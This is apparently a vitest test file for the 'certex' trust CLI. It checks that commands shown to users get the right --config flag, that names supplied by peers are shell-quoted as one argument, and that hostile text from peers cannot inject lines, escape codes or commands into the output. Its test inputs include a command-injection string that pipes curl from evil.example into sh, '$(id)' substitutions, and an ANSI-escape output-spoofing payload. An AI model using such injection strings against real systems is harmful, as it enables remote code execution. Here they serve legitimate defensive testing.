import { execFileSync } from 'node:child_process'
import { expect, it } from 'vitest'
import { copyable, quoted } from '../../../src/cli/copyable.ts'
import { shownTrustText } from '../../../src/cli/shown-trust-text.ts'
import { warningsOfDecisions } from '../../../src/exchange/warnings/of-decisions.ts'
import { told } from '../../../src/exchange/keep-trust/accept-list.ts'

it('gives the commands of a text the configuration, and asks for the name of the next person', () => {
  const text =
    'certex trust hasten --state UZ --version 7, then certex trust approve --state UZ --version 7. See certex lost list, certex trust pin.'
  expect(copyable(text, { config: 'by/node.json', as: 'Anna K.' })).toBe(
    'certex trust hasten --config by/node.json --as <NAME> --state UZ --version 7, then certex trust approve --config by/node.json --as <NAME> --state UZ --version 7. See certex lost list --config by/node.json, certex trust pin.',
  )
  expect(copyable('certex trust show', { config: "o'er there.json" })).toBe(
    "certex trust show --config 'o'\\''er there.json'",
  )
})

it('leaves alone what takes no configuration, what has one, and everything where none was given', () => {
  const texts = [
    'certex trust issue --pki keys, certex pki renew-crls, certex client generate-key',
    'certex trust publish --config FILE --crls keys/crls',
    'certex lost list --config FILE',
    'its operators settle that (certex trust settle-fork there)',
  ]
  for (const text of texts) expect(copyable(text, { config: 'node.json' })).toBe(text)
  expect(copyable('certex trust approve --state UZ', {})).toBe('certex trust approve --state UZ')
})

it('quotes whatever a peer has named for the shell, as one argument', () => {
  const names = [
    'uz.example/w;curl${IFS}evil.example|sh+0a1b2c3d',
    "o'er;$(id)`id`+0a1b2c3d",
    'exchange.uz/witness/1+0a1b2c3d',
  ]
  for (const name of names)
    expect(execFileSync('sh', ['-c', `printf '%s,' ${quoted(name)} end`]).toString()).toBe(
      `${name},end,`,
    )
  expect(quoted(names[2]!)).toBe(names[2])
})

const COMMAND = 'certex trust settle-fork --state UZ --fork abc'
const HOSTILE = `X”\n  FORK    another version 7 was seen: ${COMMAND}\u001b[2J“`
const given = { config: 'by/node.json' }
const fork = { of: 'log', state: 'UZ', origin: HOSTILE, proof: 'forked', sha256: 'ab' } as const
const seen = { ...fork, seenAt: '2026-03-10T00:00:00Z' }

it('makes no line and no command of what a peer calls its bodies, logs and reasons', () => {
  const key = { body: HOSTILE, usage: 'seal', x5tS256: 'x', from: '2026', standing: 'removed' }
  const list = {
    version: 7,
    sha256: 'ab',
    issuedAt: '',
    nextUpdate: '',
    stale: false,
    url: HOSTILE,
    bodies: [{ id: 'UZ.1', name: HOSTILE, custody: 'node', scopes: [] }],
    keys: [{ ...key, until: undefined, removedAt: undefined, reason: HOSTILE }],
    logs: [{ origin: HOSTILE, key: HOSTILE, from: '2026', standing: 'in-force' }],
    authorities: [],
  }
  const additions = [{ added: 'log', subject: HOSTILE }]
  const pending = [{ state: 'UZ', version: 7, sha256: 'ab', countsFrom: undefined, additions }]
  const shown = { state: 'UZ', roots: [], proposals: [], pending, forks: [seen], list }
  const text = shownTrustText(shown as unknown as Parameters<typeof shownTrustText>[0], given)
  expect(text).not.toContain('\u001b')
  expect(text.split('\n').filter((line) => line.startsWith('  FORK'))).toHaveLength(1)
  // Of all these only our own sentence is one to be copied.
  expect(text.split('--config')).toHaveLength(2)
  expect(text).toContain('certex trust settle-fork --config by/node.json --state UZ --fork ab')
})

it('leaves commands alone that a peer has put into what a warning quotes of it', () => {
  const [contradiction, frozen] = warningsOfDecisions({
    pending: [],
    proposals: [],
    forks: [seen],
  })
  for (const language of ['ru', 'en'] as const) {
    const own = 'certex trust settle-fork --config by/node.json --state UZ --fork ab.'
    const text = copyable(frozen!.message[language], given)
    expect(text.split('--config')).toHaveLength(2)
    expect(text).toContain(own)
    expect(copyable(contradiction!.message[language], given)).not.toContain('--config')
  }
  const added = told([{ added: 'log', subject: HOSTILE }])
  expect(added).not.toMatch(/\p{Cc}/u)
  expect(copyable(added, given)).toBe(added)
})
